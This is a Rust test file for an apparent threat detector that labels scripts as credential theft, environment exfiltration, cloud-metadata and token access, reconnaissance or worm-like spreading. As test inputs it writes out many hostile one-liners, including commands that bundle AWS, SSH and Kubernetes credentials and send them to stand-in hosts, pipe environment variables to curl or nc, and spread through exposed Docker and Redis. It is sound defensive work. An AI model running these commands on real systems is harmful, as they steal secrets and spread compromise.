use super::*;
use crate::analyzers::acts::trial::{check_command, check_file, check_started};

fn check(script: &str, expect: &[&str]) {
    check_started(&Theft, script, expect);
}

#[test]
fn collected_credentials_that_are_sent_convict() {
    let stealer =
        "tar czf /tmp/l.tgz ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json\n";
    check(&format!("{stealer}curl -F f=@/tmp/l.tgz https://h.example/u\n"), &["CRE-STEALER!"]);
    check(&format!("{stealer}curl -F f=@/tmp/l.tgz $URL\n"), &["CRE-STEALER?"]);
    check(&format!("{stealer}echo done\n"), &[]);
    check(
        "for f in /root/.aws/credentials /root/.ssh/id_rsa /root/.npmrc; do cat $f; done | base64 | nc 192.0.2.7 9\n",
        &["CRE-STEALER!"],
    );
    check_file(
        &Theft,
        "s.py",
        "#!/usr/bin/env python3\nimport requests, os\nd = ''\nfor p in ['/root/.aws/credentials', '/root/.ssh/id_rsa', '/root/.kube/config']:\n    d += open(p).read()\nrequests.post('https://h.example/', data=d)\n",
        &["/s.py"],
        &["CRE-STEALER!"],
    );
    // Not three kinds, or not sent anywhere.
    check("cp ~/.aws/credentials /tmp/c\ncurl -T /tmp/c https://h.example/\n", &[]);
    check(
        "cp /secrets/id_rsa ~/.ssh/id_rsa\nchmod 600 ~/.ssh/id_rsa\ncp /secrets/k ~/.kube/config\ncp /s/d ~/.docker/config.json\ncurl -d started https://h.example/\n",
        &[],
    );
    check("restic -r s3:https://h.example/b backup /data\nrclone sync /data remote:b\n", &[]);
}

#[test]
fn environments_that_are_sent_convict() {
    check("env | base64 | curl -d @- https://h.example/\n", &["EXF-ENV!"]);
    check("printenv | curl -X POST --data-binary @- http://192.0.2.7/\n", &["EXF-ENV!"]);
    check("curl -d \"$(env)\" \"$REPORT_URL\"\n", &["EXF-ENV?"]);
    check("env | nc 192.0.2.7 9\n", &["EXF-ENV!"]);
    check_command(&Theft, &["sh", "-c", "env | curl -d @- https://h.example/"], &["EXF-ENV!"]);
    check_command(
        &Theft,
        &["python3", "-c", "import os,requests;requests.post('https://h.example',json=dict(os.environ))"],
        &["EXF-ENV!"],
    );
    check_file(
        &Theft,
        "app.js",
        "#!/usr/bin/env node\nfetch('https://h.example/c', { method: 'POST', body: JSON.stringify(process.env) });\n",
        &["/app.js"],
        &["EXF-ENV!"],
    );
    for honest in [
        "env\nprintenv | sort\n",
        "env | grep ^NGINX_ | sed 's/=/ /' > /etc/x\n",
        "env > /etc/environment\nexec cron -f\n",
        "curl -d \"$(env | grep ^HOSTNAME)\" https://h.example/\n",
        "env | curl -d @- http://localhost:1/\n",
        "curl -H \"Authorization: $TOKEN\" https://h.example/\n",
    ] {
        check(honest, &[]);
    }
    check_file(
        &Theft,
        "app.js",
        "#!/usr/bin/env node\nfetch('https://h.example/c', { method: 'POST', body: process.env.NAME });\nconst o = { env: process.env };\n",
        &["/app.js"],
        &[],
    );
    for honest in [
        "r = requests.post('https://h.example', json={'t': value_of(os.environ, 'TERM')})",
        "env = dict(os.environ)\nrequests.post('https://h.example', json={'t': env['TERM'], 'u': env.get('U')})",
        "env = os.environ.copy()\ndef send(env):\n    requests.post('https://h.example', json=env)",
        "subprocess.run(['x'], env=os.environ)\nrequests.post('https://h.example', data=subprocess.check_output(['y'], env=os.environ))",
    ] {
        let script = format!("#!/usr/bin/env python3\nimport os, requests, subprocess\n{honest}\n");
        check_file(&Theft, "s.py", &script, &["/s.py"], &[]);
    }
}

#[test]
fn other_theft_corroborates() {
    check("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role\n", &["CRE-IMDS?"]);
    check("curl -s http://169.254.169.254/latest/meta-data/placement/region\n", &[]);
    check(
        "curl -d \"$(curl -s http://169.254.169.254/latest/user-data)\" https://h.example/\n",
        &["CRE-IMDS?"],
    );
    check(
        "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H \"Authorization: Bearer $T\" https://h.example/\n",
        &["CRE-SATOKEN?"],
    );
    check(
        "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api\n",
        &[],
    );
    check("cat /proc/*/environ | tr '\\0' '\\n'\n", &["CRE-PROCSCAN?"]);
    check("cat /proc/1/stat /proc/self/environ /proc/meminfo\n", &[]);
    check("curl -d hello https://webhook.site/abc\n", &["EXF-SINK?"]);
    check("curl -T /tmp/x https://transfer.sh/x\n", &["EXF-SINK?"]);
    check("curl -d text=x https://api.telegram.org/bot123456:AAAA/sendMessage\n", &["EXF-SINK?"]);
    check("curl -d text=x https://api.telegram.org/bot$TOKEN/sendMessage\ncurl -d x \"$WEBHOOK_URL\"\n", &[]);
    check("for c in $(env | base64 | fold -w 60); do dig $c.h.example; done\n", &["EXF-DNS?"]);
    check("dig +short h.example\nnslookup $HOST.h.example\n", &[]);
    check("masscan $R -p2375 --rate 1000\n", &["DIS-MASSCAN?"]);
    check("nmap -p 80 h.example\n", &[]);
    check(
        "I=$(curl -s https://ifconfig.me)\ncurl -d \"$I $(nproc)\" https://h.example/\n",
        &["DIS-PROFILE?"],
    );
    check("I=$(curl -s https://ifconfig.me)\ncurl \"https://dns.h.example/update?ip=$I\"\n", &[]);
    check("kubectl auth can-i --list\n", &["DIS-KUBERECON?"]);
    check("kubectl apply -f /m.yaml\nkubectl get pods\n", &[]);
}

#[test]
fn spreading_convicts() {
    check("for h in $(cat /tmp/ips); do docker -H tcp://$h:2375 run -d x; done\n", &["LAT-WORM!"]);
    check(
        "while read h; do redis-cli -h $h config set dir /var/spool/cron; done < /tmp/ips\n",
        &["LAT-WORM!"],
    );
    check(
        "docker -H tcp://docker:2375 run -d x\ndocker -H $DOCKER_HOST run x\nredis-cli -h $H ping\nssh u@$HOST uptime\n",
        &[],
    );
}
